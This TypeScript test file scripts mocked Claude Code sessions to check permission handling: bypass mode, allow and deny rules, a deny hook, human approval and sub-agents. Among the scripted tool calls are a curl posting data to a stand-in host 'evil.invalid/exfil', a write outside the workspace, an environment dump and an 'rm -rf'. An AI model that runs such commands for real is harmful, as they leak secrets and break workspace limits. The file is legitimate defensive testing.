/** The scripted sessions of Claude Code: what the model asks for, and what must come of it. */
import fs from 'node:fs';
import path from 'node:path';
import { startMessages } from './model/messages.ts';
import { ROUNDS_OF_CALLS } from './parallel.ts';
import type { Scripted } from './script.ts';
import type { Agent, Host, Place } from './session.ts';
import { play, SECOND, type Step, say, shell, step, think, together } from './steps.ts';

export const PROMPT = 'Fix add() in app.py, record a todo, then check connectivity. Ω';
export const FINAL = 'All done: add() fixed, todo recorded, connectivity checked.';
export const SUBTASK = 'SUBAGENT-TASK: run one echo and report.';

const bash = (id: string, command: string, exitCode?: number, more: Partial<Scripted> = {}) =>
  shell('Bash', id, command, exitCode, more);

/** The whole session, with every permission given. */
export function bypassSteps({ workspace: w, target, dir }: Place): readonly Step[] {
  return [
    together(
      think('Let me look around first.'),
      say('I will look around first.'),
      bash('toolu_01', 'echo hello && ls -la', 0, { programs: ['ls'] }),
    ),
    bash('toolu_02_exit3', 'sh -c "echo out; echo err >&2; exit 3"', 3),
    step('toolu_05_read', 'Read', { file_path: path.join(w, 'app.py') }),
    bash('toolu_03_big', 'seq 1 20000', 0, { programs: ['seq'] }),
    step(
      'toolu_04_write',
      'Write',
      {
        file_path: path.join(w, 'notes/todo.md'),
        content: '# todo\n- rotate keys\n',
      },
      { files: ['notes/todo.md'] },
    ),
    step(
      'toolu_06_edit',
      'Edit',
      {
        file_path: path.join(w, 'app.py'),
        old_string: 'return a - b',
        new_string: 'return a + b',
      },
      { files: ['app.py'] },
    ),
    bash('toolu_07_shellwrite', 'echo by-shell > via_shell.txt && cat via_shell.txt', 0, {
      files: ['via_shell.txt'],
      programs: ['cat'],
    }),
    bash('toolu_08_curl', `curl -sS -m 5 ${target}/ping`, 0, { programs: ['curl'] }),
    bash('toolu_09_evil', 'curl -sS -m 5 -d s=1 http://evil.invalid/exfil', 6, {
      programs: ['curl'],
    }),
    bash('toolu_10_outside', `echo pwned > ${path.join(dir, 'outside/file')}`, 0),
    together(
      bash('toolu_11_parallel', 'echo parallel-A; sleep 0.3', 0, { programs: ['sleep'] }),
      bash('toolu_12_parallel', 'echo parallel-B; sleep 0.3', 0, { programs: ['sleep'] }),
    ),
    step('toolu_13_agent', 'Agent', {
      description: 'Sub check',
      prompt: SUBTASK,
      subagent_type: 'general-purpose',
      run_in_background: false,
    }),
    step('toolu_14_mcp', 'mcp__lab__lookup', { key: 'alpha' }, { tool: 'lookup' }),
    step('toolu_15_unknown', 'NoSuchTool', { a: 1 }, { outcome: 'failure' }),
    say(FINAL),
  ];
}

/** What the sub-agent does. */
const SUB = together(say('Sub agent at work.'), bash('toolu_sub_01', 'echo from-subagent', 0));
export const SUB_CALLS: readonly Scripted[] = SUB.calls;

/** A session with rules: what is not allowed is refused, in each of the ways that there are. */
export function allowSteps({ target }: Place): readonly Step[] {
  return [
    bash('toolu_a1_allowed', 'echo hello', 0),
    bash('toolu_a2_unasked', 'env | sort'),
    bash('toolu_a3_rule', `curl -sS -m 5 ${target}/ping`),
    bash('toolu_a4_hook', 'echo evil.invalid'),
    bash('toolu_a5_redirect', 'echo x > via_shell.txt'),
    say(FINAL),
  ];
}

const playing = (steps: readonly Step[], failFirst?: number) =>
  startMessages(
    play({
      steps,
      tool: 'Bash',
      prompt: 'Fix add()',
      sub: { task: SUBTASK, step: SUB },
      ...(failFirst === undefined ? {} : { failFirst }),
    }),
  );

const environment = (place: Place, url: string): Readonly<Record<string, string>> => ({
  CLAUDE_CONFIG_DIR: path.join(place.dir, 'home/.claude'),
  IS_SANDBOX: '1',
  DISABLE_AUTOUPDATER: '1',
  CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
  ANTHROPIC_BASE_URL: url,
  ANTHROPIC_API_KEY: 'none',
});

const MCP = path.join(import.meta.dirname, 'mcp.mjs');
const MCP_CONFIG = JSON.stringify({
  mcpServers: { lab: { command: process.execPath, args: [MCP] } },
});

/** A user's own settings; a run must leave them as they are. */
function userSettings(place: Place, settings: object): string {
  const file = path.join(place.dir, 'home/.claude/settings.json');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, JSON.stringify(settings));
  return file;
}

/** All permissions given; then a second prompt in the same conversation. */
export const bypassing = (command: string): Agent => ({
  model: (place) => playing(bypassSteps(place), 529),
  configure: (place) => [userSettings(place, { cleanupPeriodDays: 30 })],
  runs(place, model) {
    const env = environment(place, model.url);
    const flags = ['-p', '--dangerously-skip-permissions', '--model', 'claude-sonnet-4-5'];
    const first = [...flags, '--mcp-config', MCP_CONFIG, '--', PROMPT];
    const second = ['--continue', ...flags, '--', SECOND];
    return [first, second].map((args) => ({ argv: [command, ...args], env }));
  },
});

const DENY =
  'grep -q evil.invalid && printf \'{"hookSpecificOutput":{"hookEventName":"PreToolUse",' +
  '"permissionDecision":"deny","permissionDecisionReason":"the host is not allowed"}}\'; exit 0';

/** Rules and a hook of the user's own. */
export const allowing = (command: string): Agent => ({
  model: (place) => playing(allowSteps(place)),
  configure: (place) => [
    userSettings(place, {
      permissions: { allow: ['Bash(echo *)'], deny: ['Bash(curl *)'] },
      hooks: { PreToolUse: [{ matcher: 'Bash', hooks: [{ type: 'command', command: DENY }] }] },
    }),
  ],
  runs: (place, model) => [
    {
      argv: [command, '-p', '--model', 'claude-sonnet-4-5', PROMPT],
      env: environment(place, model.url),
    },
  ],
});

/** One run with other steps, all permissions given. */
const bare =
  (steps: readonly Step[] | { readonly status: number }) =>
  (command: string): Agent => ({
    model: () => ('status' in steps ? startMessages(() => steps) : playing(steps)),
    configure: (place) => [userSettings(place, {})],
    runs: (place, model) => [
      {
        argv: [command, '-p', '--dangerously-skip-permissions', '--model', 'x', PROMPT],
        env: environment(place, model.url),
      },
    ],
  });

/** The call kills the agent that made it. */
export const KILLER = bash('toolu_killer', 'echo before; kill -9 $PPID; sleep 1', 0);
export const killed = bare([KILLER]);
/** Calls at the same time. */
export const parallelSteps: readonly Step[] = [
  ...ROUNDS_OF_CALLS.map((round) =>
    together(...round.map(({ mark, command }) => bash(`toolu_${mark}`, command, 0))),
  ),
  say(FINAL),
];
export const parallel = bare(parallelSteps);
/** The model refuses every request. */
export const failing = bare({ status: 400 });

/** Each of these is asked for: the first is allowed once, the second always, the third refused. */
export const askedSteps: readonly Step[] = [
  bash('toolu_q1_once', 'touch q1.txt', 0),
  bash('toolu_q2_always', 'mkdir q2', 0),
  bash('toolu_q3_no', 'rm -rf q2'),
  say(FINAL),
];
export const ANSWER_MS = 300;

/** A person at the other end, who takes a moment for each answer. */
const person: Host = {
  opening: [
    {
      type: 'control_request',
      request_id: 'init',
      request: { subtype: 'initialize', hooks: null },
    },
    {
      type: 'user',
      message: { role: 'user', content: PROMPT },
      parent_tool_use_id: null,
      session_id: '',
    },
  ],
  answer({ type, request_id, request }) {
    if (type === 'result') return 'end';
    const asked = (request ?? {}) as { subtype?: string; input?: object };
    if (type !== 'control_request' || asked.subtype !== 'can_use_tool') return undefined;
    // The test's own thread is held up, and with it the answer.
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, ANSWER_MS);
    const text = JSON.stringify(asked.input);
    const response = text.includes('rm -rf')
      ? { behavior: 'deny', message: 'No.', decisionClassification: 'user_reject' }
      : {
          behavior: 'allow',
          updatedInput: asked.input,
          decisionClassification: text.includes('mkdir') ? 'user_permanent' : 'user_temporary',
        };
    return { type: 'control_response', response: { subtype: 'success', request_id, response } };
  },
};

/** A person is asked for what no rule allows. */
export const asking = (command: string): Agent => ({
  model: () => playing(askedSteps),
  configure: (place) => [userSettings(place, {})],
  runs: (place, model) => [
    {
      argv: [
        ...[command, '-p', '--model', 'x', '--verbose'],
        ...['--input-format', 'stream-json', '--output-format', 'stream-json'],
        ...['--permission-prompt-tool', 'stdio'],
      ],
      env: environment(place, model.url),
      host: person,
    },
  ],
});
